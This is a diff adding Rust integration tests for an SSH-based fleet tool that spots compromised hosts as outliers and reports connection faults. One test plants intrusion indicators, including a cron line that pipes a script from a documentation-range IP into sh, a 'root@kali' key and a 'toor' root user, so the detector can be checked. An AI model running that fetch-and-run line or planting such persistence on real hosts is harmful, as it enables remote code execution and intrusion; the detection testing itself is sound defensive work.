@@ -1,0 +1,300 @@
+//! The SSH transport on a fleet of real Linux hosts (namespaces with their own
+//! sshd), through the real OpenSSH client. Needs root; skips with the reason
+//! otherwise (and fails under CI, which must run it).
+
+mod common;
+
+use std::collections::BTreeSet;
+use std::path::PathBuf;
+use std::time::{Duration, Instant};
+
+use common::Diffy;
+use common::fleet::Fleet;
+use diffy_core::{Host, HostStatus, PerHost};
+use diffy_testkit::conformance::{CollectionCaps, collection};
+use diffy_transport_ssh::{SshOptions, SshTransport};
+
+fn ssh_args(fleet: &Fleet) -> Vec<String> {
+    vec![
+        "--transport".into(),
+        "ssh".into(),
+        "--target".into(),
+        "ssh-config".into(),
+        "--ssh-config".into(),
+        fleet.ssh_config().display().to_string(),
+    ]
+}
+
+fn leftovers(tag: &str) -> Vec<String> {
+    let ps = std::process::Command::new("ps").args(["-eo", "pid,args"]).output().unwrap();
+    String::from_utf8_lossy(&ps.stdout)
+        .lines()
+        .filter(|l| l.contains(tag) && !l.contains("ps -eo"))
+        .map(str::to_string)
+        .collect()
+}
+
+/// A short temporary directory of a test's own (diffy puts its ssh control
+/// directory under `$TMPDIR`), so tests running alongside do not blur what
+/// one run leaves behind.
+struct OwnTmp(PathBuf);
+
+impl OwnTmp {
+    fn new(tag: &str) -> Self {
+        let p = PathBuf::from(format!("/tmp/dfy-{tag}-{}", std::process::id()));
+        std::fs::create_dir_all(&p).unwrap();
+        Self(p)
+    }
+
+    fn env(&self) -> &str {
+        self.0.to_str().unwrap()
+    }
+
+    /// No control directory and no ssh master of this run remain.
+    fn assert_nothing_left(&self) {
+        let left: Vec<_> = std::fs::read_dir(&self.0).unwrap().map(|e| e.unwrap().path()).collect();
+        assert!(left.is_empty(), "no control directory is left behind: {left:?}");
+        assert!(leftovers(self.env()).is_empty(), "no ssh master is left behind: {:?}", leftovers(self.env()));
+    }
+}
+
+impl Drop for OwnTmp {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn conformance_over_ssh() {
+    let Some(fleet) = Fleet::up(3, "cnf") else { return };
+    let transport = SshTransport::new(SshOptions::default().config_file(fleet.ssh_config())).unwrap();
+    let hosts: Vec<Host> = fleet.hosts.iter().map(|h| Host::named(h).unwrap()).collect();
+    collection(&PerHost::new(transport), &hosts, CollectionCaps::default()).await;
+}
+
+#[test]
+fn twenty_hosts_three_compromised_are_exactly_the_outliers() {
+    let Some(fleet) = Fleet::up(20, "e2e") else { return };
+    let (a, b, c) = (fleet.host(4).to_string(), fleet.host(9).to_string(), fleet.host(15).to_string());
+    fleet.plant(&a, "listener");
+    fleet.plant(&b, "cron");
+    fleet.plant(&b, "key");
+    fleet.plant(&c, "uid0");
+    fleet.plant(&c, "shm");
+    let tmp = OwnTmp::new("e2e");
+    let d = Diffy::new().env("TMPDIR", tmp.env());
+    // The issue's own form: hosts from a file, one per line, settings from an ssh_config.
+    d.write("hosts.txt", &(fleet.hosts.join("\n") + "\n"));
+    let cfg = fleet.ssh_config().display().to_string();
+    let args = [
+        "analyze",
+        "web",
+        "--transport",
+        "ssh",
+        "--hosts",
+        "hosts.txt",
+        "--ssh-config",
+        &cfg,
+        "--payload",
+        "shell",
+        "--method",
+        "cluster",
+        "--format",
+        "json",
+    ];
+    let r = d.run(&args);
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    let report = r.report();
+    assert_eq!(report.coverage.collected, 20, "{:?}", report.coverage);
+    let outliers: BTreeSet<&str> = report.outliers().map(|h| h.host.as_str()).collect();
+    assert_eq!(outliers, BTreeSet::from([a.as_str(), b.as_str(), c.as_str()]), "exactly the three compromised hosts");
+    let findings = |h: &str| report.hosts.iter().find(|x| x.host == h).unwrap().findings.clone();
+    let has = |h: &str, query: &str, col: &str, needle: &str| {
+        findings(h).iter().any(|f| f.query == query && f.row.get(col).is_some_and(|v| v.contains(needle)))
+    };
+    assert!(
+        has(&a, "listening_ports", "port", "4444") && has(&a, "listening_ports", "path", "/tmp/.cache/kworkerd"),
+        "{:#?}",
+        findings(&a)
+    );
+    assert!(has(&a, "processes", "path", "/tmp/.cache/kworkerd"), "{:#?}", findings(&a));
+    assert!(has(&b, "crontab", "command", "curl -fsSL http://198.51.100.23/x.sh | sh"), "{:#?}", findings(&b));
+    assert!(has(&b, "authorized_keys", "comment", "root@kali"), "{:#?}", findings(&b));
+    assert!(has(&c, "users", "username", "toor"), "{:#?}", findings(&c));
+    assert!(has(&c, "processes", "path", "/dev/shm/[kworker0]"), "{:#?}", findings(&c));
+    for h in report.hosts.iter().filter(|h| !outliers.contains(h.host.as_str())) {
+        assert!(h.findings.is_empty(), "identical clean hosts have nothing to say: {h:#?}");
+    }
+    tmp.assert_nothing_left();
+}
+
+#[test]
+fn every_fault_gets_its_status_and_the_others_complete() {
+    let Some(fleet) = Fleet::up(7, "flt") else { return };
+    let h = |i: usize| fleet.host(i).to_string();
+    // A host that refuses our key, one whose key changed, one whose key we do not know.
+    fleet.fault(&h(5), "deny-auth");
+    fleet.fault(&h(4), "rekey");
+    let known = std::fs::read_to_string(fleet.known_hosts()).unwrap();
+    std::fs::write(
+        fleet.known_hosts(),
+        known.lines().filter(|l| !l.starts_with(&format!("{} ", h(6)))).map(|l| format!("{l}\n")).collect::<String>(),
+    )
+    .unwrap();
+    let d = Diffy::new();
+    d.write(
+        "slow.toml",
+        &format!(
+            "[[query]]\nname = \"work\"\nshell = '''case $(hostname) in {hang}) sleep 600;; *) sleep 4;; esac; echo done'''\n",
+            hang = h(3)
+        ),
+    );
+    let mut args: Vec<String> = ["collect", "fleet", "--payload", "slow.toml", "--deadline", "10s", "--format", "json"]
+        .map(String::from)
+        .to_vec();
+    args.extend(ssh_args(&fleet));
+    let child = d
+        .command(&args.iter().map(String::as_str).collect::<Vec<_>>())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    // sshd stops while the payload runs on host 2.
+    std::thread::sleep(Duration::from_millis(2000));
+    fleet.fault(&h(2), "stop-sshd");
+    let t = Instant::now();
+    let out = child.wait_with_output().unwrap();
+    assert!(t.elapsed() < Duration::from_secs(40), "the hanging host is held to its deadline: {:?}", t.elapsed());
+    let m: serde_json::Value =
+        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "some hosts collected: the run completes\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let run = m["id"].as_str().unwrap().to_string();
+    let status_in = |run: &str, host: &str| -> (String, String) {
+        let p = d.path(&format!("diffy-store/runs/{run}/hosts/{host}/result.json"));
+        let r: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&p).unwrap()).unwrap();
+        (r["status"].as_str().unwrap().to_string(), r["message"].as_str().unwrap_or("").to_string())
+    };
+    let status = |host: &str| status_in(&run, host);
+    assert_eq!(status(&h(1)).0, "ok");
+    assert_eq!(status(&h(7)).0, "ok");
+    let (s, msg) = status(&h(2));
+    assert_eq!(s, "unreachable", "sshd stopped mid-run: {msg}");
+    assert!(msg.contains("connection was lost"), "{msg}");
+    assert_eq!(status(&h(3)).0, "timed_out", "{:?}", status(&h(3)));
+    let (s, msg) = status(&h(4));
+    assert_eq!(s, "host_key_mismatch", "{msg}");
+    assert!(msg.starts_with("THE HOST KEY HAS CHANGED"), "loud: {msg}");
+    assert_eq!(status(&h(5)).0, "auth_failed", "{:?}", status(&h(5)));
+    assert_eq!(status(&h(6)).0, "host_key_unknown", "{:?}", status(&h(6)));
+    let analysis = d.run(&["analyze", "--from", &run, "--format", "json"]);
+    let report = analysis.report();
+    assert_eq!(report.coverage.failed, 5);
+    let shown = report.hosts.iter().find(|x| x.host == h(4)).unwrap();
+    assert_eq!(shown.status, HostStatus::HostKeyMismatch);
+    assert!(report.warnings[0].contains("presented a CHANGED host key"), "{:?}", report.warnings);
+    let human = d.run(&["analyze", "--from", &run]);
+    assert!(human.stdout.contains("host_key_mismatch  THE HOST KEY HAS CHANGED"), "{}", human.stdout);
+
+    // Accepting new keys lets the unknown host in; a changed key stays refused.
+    let mut args: Vec<String> =
+        ["collect", "fleet", "--payload", "shell", "--accept-new-host-keys", "--format", "json"]
+            .map(String::from)
+            .to_vec();
+    args.extend(ssh_args(&fleet));
+    let m = d.run(&args.iter().map(String::as_str).collect::<Vec<_>>()).json();
+    let second = m["id"].as_str().unwrap();
+    assert_eq!(status_in(second, &h(6)).0, "ok", "accept-new lets a new host in");
+    assert_eq!(status_in(second, &h(4)).0, "host_key_mismatch", "accept-new still refuses a changed key");
+}
+
+#[test]
+#[allow(clippy::print_stderr)]
+fn sudo_asking_for_a_password_is_auth_failed() {
+    if std::process::Command::new("sh").args(["-c", "command -v sudo"]).output().map_or(true, |o| !o.status.success()) {
+        assert!(std::env::var("CI").is_err(), "CI must have sudo installed");
+        eprintln!("skipping: sudo is not installed");
+        return;
+    }
+    let Some(fleet) = Fleet::up(2, "sdo") else { return };
+    for (i, rule) in [(1, "ops ALL=(ALL) NOPASSWD: ALL"), (2, "ops ALL=(ALL) ALL")] {
+        let out = fleet.exec(
+            fleet.host(i),
+            &format!("useradd -m -s /bin/sh ops && mkdir -p ~ops/.ssh && cp /root/.ssh/authorized_keys ~ops/.ssh/ && chown -R ops ~ops/.ssh && echo '{rule}' > /etc/sudoers.d/ops && chmod 440 /etc/sudoers.d/ops"),
+        );
+        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    }
+    let d = Diffy::new();
+    let mut args: Vec<String> =
+        ["collect", "fleet", "--payload", "shell", "--ssh-user", "ops", "--sudo", "--format", "json"]
+            .map(String::from)
+            .to_vec();
+    args.extend(ssh_args(&fleet));
+    let r = d.run(&args.iter().map(String::as_str).collect::<Vec<_>>());
+    let m = r.json();
+    let run = m["id"].as_str().unwrap();
+    let result = |host: &str| -> serde_json::Value {
+        serde_json::from_str(
+            &std::fs::read_to_string(d.path(&format!("diffy-store/runs/{run}/hosts/{host}/result.json"))).unwrap(),
+        )
+        .unwrap()
+    };
+    assert_eq!(result(fleet.host(1))["status"], "ok", "passwordless sudo runs the payload as root");
+    let denied = result(fleet.host(2));
+    assert_eq!(denied["status"], "auth_failed");
+    assert!(denied["message"].as_str().unwrap().contains("sudo -n refused to run without a password"), "{denied}");
+}
+
+#[test]
+fn ctrl_c_over_ssh_leaves_nothing_behind() {
+    let Some(fleet) = Fleet::up(4, "int") else { return };
+    let d = Diffy::new();
+    let marker = format!("diffy-int-{}", std::process::id());
+    d.write("slow.toml", &format!("[[query]]\nname = \"slow\"\nshell = '''sleep 600 # {marker}'''\n"));
+    let tmp = OwnTmp::new("int");
+    let mut args: Vec<String> =
+        ["collect", "fleet", "--payload", "slow.toml", "--deadline", "10m"].map(String::from).to_vec();
+    args.extend(ssh_args(&fleet));
+    let child = d
+        .command(&args.iter().map(String::as_str).collect::<Vec<_>>())
+        .env("TMPDIR", tmp.env())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    // Wait until the payload runs on every host.
+    let t = Instant::now();
+    loop {
+        // The query shows as `timeout ... sh -c 'sleep 600 # marker'` and `sh -c ...`.
+        let running = fleet.hosts.iter().filter(|h| {
+            let n = String::from_utf8_lossy(
+                &fleet.exec(h, &format!("ps -eo args | grep -c '[s]leep 600 # {marker}' || true")).stdout,
+            )
+            .trim()
+            .to_string();
+            n.parse::<u32>().unwrap_or(0) > 0
+        });
+        if running.count() == fleet.hosts.len() {
+            break;
+        }
+        assert!(t.elapsed() < Duration::from_secs(30), "the payload never started everywhere");
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id() as i32), nix::sys::signal::Signal::SIGINT).unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(130), "{}", String::from_utf8_lossy(&out.stderr));
+    std::thread::sleep(Duration::from_millis(500));
+    for h in &fleet.hosts {
+        let n = String::from_utf8_lossy(
+            &fleet.exec(h, &format!("ps -eo args | grep -c '[s]leep 600 # {marker}' || true")).stdout,
+        )
+        .trim()
+        .to_string();
+        assert_eq!(n, "0", "{h}: the payload was stopped on the host");
+    }
+    tmp.assert_nothing_left();
+}
